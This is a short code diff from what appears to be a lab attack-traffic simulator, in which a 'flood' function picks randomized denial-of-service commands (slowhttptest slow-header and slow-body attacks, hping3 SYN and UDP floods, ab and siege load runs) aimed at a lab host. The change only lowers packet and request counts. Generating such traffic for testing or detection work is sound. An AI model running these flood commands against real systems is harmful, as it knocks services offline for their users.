@@ -218,9 +218,9 @@ def flood(lab, actor, dice, limit):
     tools = (
         f'slowhttptest -c {dice.choice((40, 120))} -H -i 5 -r 20 -t GET -u http://{host}/ -x 24 -p 3 -l {limit - 5}',
         f'slowhttptest -c {dice.choice((40, 120))} -B -i 6 -r 20 -s 4096 -t POST -u http://{host}/ -x 10 -p 3 -l {limit - 5}',
-        f'hping3 -q -S -p {dice.choice((80, 443, 22))} -i u{dice.choice((3000, 8000))} -c 1500 {host}',
-        f'hping3 -q -2 -p {dice.choice((53, 123, 9999))} -d {dice.choice((20, 400))} -i u4000 -c 1200 {host}',
-        f'ab -q -n 1200 -c {dice.choice((10, 40))} -s 5 http://{host}/article-{dice.randrange(9)}.html',
+        f'hping3 -q -S -p {dice.choice((80, 443, 22))} -i u{dice.choice((3000, 8000))} -c {dice.choice((300, 800))} {host}',
+        f'hping3 -q -2 -p {dice.choice((53, 123, 9999))} -d {dice.choice((20, 400))} -i u4000 -c 600 {host}',
+        f'ab -q -n 500 -c {dice.choice((10, 40))} -s 5 http://{host}/article-{dice.randrange(9)}.html',
         f'siege -q -b -c {dice.choice((8, 25))} -t {limit - 8}S http://{host}/article-3.html',
     )
     with actor.does('denial'):
